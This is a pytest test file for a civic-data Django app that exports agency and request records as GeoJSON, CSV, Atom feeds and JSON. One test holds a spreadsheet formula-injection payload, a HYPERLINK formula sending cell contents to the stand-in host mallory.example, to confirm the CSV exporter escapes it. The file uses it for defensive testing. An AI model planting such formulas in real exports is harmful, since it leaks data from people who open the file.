"""The record as files: what a reader of GeoJSON, of a spreadsheet, of a feed and of JSON finds in them."""

import csv
import io
import json
from itertools import pairwise
from typing import Any
from xml.etree import ElementTree as Xml

import pytest
from django.db import transaction
from django.test import Client

from tests.cast import Cast, new_id
from tests.server import civic
from vicinage.core import agency as law
from vicinage.core.rules import EVIDENCE
from vicinage.core.span import parse_instant
from vicinage.server import clock, manage
from vicinage.server.agencies import actions as agencies
from vicinage.server.ledger.actions import record
from vicinage.server.public import exports
from vicinage.server.regime import queries as rules
from vicinage.wire import decode
from vicinage.wire.record import AgencyFile, Points, StateFile

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"


def get(path: str) -> Any:
    """An answer to a stranger, which must be there and open to any site."""
    answer = Client().get(path)
    assert answer.status_code == 200, path
    assert answer.headers["Access-Control-Allow-Origin"] == "*"
    return answer


def rows(path: str) -> list[dict[str, str]]:
    """The rows of a CSV."""
    return list(csv.DictReader(io.StringIO(get(path).content.decode("utf-8-sig"))))


def in_the_log(seat: tuple[float, float] | None, state: str) -> str:
    """An agency that only the log knows: with this seat. Its id."""
    facts = civic.facts(id=new_id(), seat=seat, state=state, evidence=tuple(sorted(EVIDENCE)), approvals=2)
    decision = law.verify(rules.in_force(), facts, clock.now())
    assert decision.event is not None, decision.findings
    with transaction.atomic():
        record(decision.event)
    return facts.id


def test_agencies_are_geojson_with_their_ids_and_who_has_no_seat_has_no_geometry(home: Any) -> None:
    manage.adopt_regime("public-2021")
    seated, elsewhere = in_the_log((-118.251, 34.052), "CA"), in_the_log(None, "")
    civic.log()
    answer = get("/agencies.geojson")
    told = answer.json()
    assert answer.headers["Content-Type"] == "application/geo+json"
    assert told["type"] == "FeatureCollection"
    shapes = {f["id"]: f["geometry"] for f in told["features"]}
    assert shapes == {seated: {"type": "Point", "coordinates": [-118.251, 34.052]}, elsewhere: None}
    assert all(f["type"] == "Feature" and f["properties"]["standing"] == "verified" for f in told["features"])


def test_requests_are_geojson_polygons_that_close_and_turn_to_the_left(cast: Cast) -> None:
    rfa = civic.published(cast)
    (feature,) = get("/rfas.geojson").json()["features"]
    (ring,) = feature["geometry"]["coordinates"]
    assert ring[0] == ring[-1]
    turned = sum((b[0] - a[0]) * (b[1] + a[1]) for a, b in pairwise(ring))
    assert turned < 0  # RFC 7946, 3.1.6: the outer ring goes against the clock
    told = feature["properties"]
    assert (feature["id"], told["agency"], told["title"]) == (rfa.id, rfa.agency_id, rfa.title)
    assert parse_instant(told["open_until"]) > clock.now()
    assert told["resolved_at"] is None


def test_the_tables_have_a_row_for_each_and_the_ids_of_the_geojson(cast: Cast) -> None:
    rfa = civic.published(cast)
    (agency,) = rows("/agencies.csv")
    assert (agency["id"], agency["requests"]) == (rfa.agency_id, "1")
    assert parse_instant(agency["joined_at"]) <= clock.now()
    (request,) = rows("/rfas.csv")
    assert request["id"] == rfa.id
    assert json.loads(request["area"]) == rfa.area


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff20"])
def test_no_cell_of_a_table_is_taken_for_a_formula(start: str) -> None:
    wicked = f'{start}HYPERLINK("http://mallory.example?"&A1,"open")'
    written = exports.as_csv(["name", "lon"], [{"name": wicked, "lon": -76.6}]).decode("utf-8-sig")
    ((_, _), (name, lon)) = list(csv.reader(io.StringIO(written)))
    assert name == f"'{wicked}"
    assert lon == "-76.6"  # a number below nought stays one


def test_a_request_whose_title_is_a_formula_is_text_in_the_table(cast: Cast) -> None:
    civic.published(cast, title="=1+1 shops robbed on Elm Street")
    assert rows("/rfas.csv")[0]["title"] == "'=1+1 shops robbed on Elm Street"


@pytest.mark.parametrize("path", ["/agencies.atom", "/rfas.atom"])
def test_a_feed_has_what_rfc_4287_asks_for(cast: Cast, path: str) -> None:
    civic.published(cast, title="Robbery & flight <at> Elm Street")
    answer = get(path)
    assert answer.headers["Content-Type"].startswith("application/atom+xml")
    feed = Xml.fromstring(answer.content)  # noqa: S314 (our own)
    assert feed.tag == f"{ATOM}feed"
    for part in (feed, *feed.findall(f"{ATOM}entry")):
        for name in ("id", "title", "updated"):
            assert len(part.findall(f"{ATOM}{name}")) == 1, name
        assert part.findtext(f"{ATOM}id", "").startswith("http")
        parse_instant(part.findtext(f"{ATOM}updated"))
        assert part.find(f"{ATOM}link[@rel='alternate']") is not None
    ids = [entry.findtext(f"{ATOM}id") for entry in feed.findall(f"{ATOM}entry")]
    assert len(ids) == len(set(ids)) >= 1
    assert feed.find(f"{ATOM}author/{ATOM}name") is not None
    own = feed.find(f"{ATOM}link[@rel='self']")
    assert own is not None
    assert own.attrib["href"].endswith(path)


@pytest.mark.parametrize("path", ["/agencies.atom", "/rfas.atom"])
def test_an_empty_feed_is_one_too(path: str, home: Any) -> None:
    feed = Xml.fromstring(get(path).content)  # noqa: S314 (our own)
    assert feed.findtext(f"{ATOM}updated") == "2000-01-01T00:00:00Z"
    assert feed.findall(f"{ATOM}entry") == []


def test_an_agencys_file_has_its_history_its_key_and_its_requests(cast: Cast) -> None:
    rfa = civic.published(cast)
    agencies.suspend(rfa.agency_id, "It asked about a protest.", cast.olga.user, clock.now())
    civic.log()
    told = decode(AgencyFile, get(f"/agencies/{rfa.agency_id}.json").content)
    assert [change.kind for change in told.history] == ["agency.suspended", "agency.verified"]
    assert told.history[0].reason == "It asked about a protest."
    assert told.rfas == [rfa.id]
    assert told.agency.standing == "suspended"
    assert told.agency.suspended_at == told.history[0].at
    assert told.approvals == 2
    assert "mail" in told.evidence
    assert json.loads(Client().get(f"/log/leaf/{told.agency.index}").content)["agency"] == rfa.agency_id


def test_the_points_of_the_map_are_the_seats_to_a_thousandth(home: Any) -> None:
    manage.adopt_regime("public-2021")
    seats = {(-118.251, 34.052), (-118.25, 34.051), (-118.9, 33.7), (-71.06, 42.36)}
    for seat in sorted(seats):
        in_the_log(seat, "CA" if seat[0] < -100 else "MA")
    in_the_log(None, "MA")
    civic.log()
    told = decode(Points, get("/agencies/points.json").content)
    found = set()
    for group in told.groups:
        x = y = 0
        for dx, dy in zip(group.x, group.y, strict=True):
            x, y = x + dx, y + dy
            found.add((x / 1000, y / 1000))
    assert found == seats
    assert [(group.state, len(group.x)) for group in told.groups] == [("CA", 3), ("MA", 1)]
    assert told.unplaced == 1


def test_each_state_has_its_file_and_one_without_agencies_has_none(cast: Cast) -> None:
    assert cast.agency
    civic.log()
    told = decode(StateFile, get("/agencies/state/CA.json").content)
    assert [line.id for line in told.agencies] == [cast.agency.pk]
    for path in ("/agencies/state/MA.json", "/agencies/state/none.json", "/agencies/state/ca.json"):
        assert Client().get(path).status_code == 404


def test_no_file_names_an_officer_a_moderator_an_operator_or_a_resident(cast: Cast) -> None:
    rfa = civic.published(cast)
    assert cast.alices_home
    paths = [
        "/agencies.geojson",
        "/agencies.csv",
        "/agencies.atom",
        "/rfas.geojson",
        "/rfas.csv",
        "/rfas.atom",
    ]
    paths += [f"/agencies/{rfa.agency_id}.json", f"/rfas/{rfa.id}.json", "/agencies/state/CA.json"]
    for path in paths:
        words = get(path).content.decode().lower()
        for person in (cast.carol, cast.erin, cast.olga, cast.otto, cast.alice):
            assert person.user.email not in words, path


def test_what_is_not_in_the_published_log_is_in_no_file(cast: Cast) -> None:
    assert cast.agency
    civic.log()
    before = {path: get(path).content for path in ("/agencies.csv", "/agencies.geojson", "/rfas.csv")}
    submitted = civic.submit(cast)
    assert {path: get(path).content for path in before} == before
    assert Client().get(f"/rfas/{submitted}.json").status_code == 404
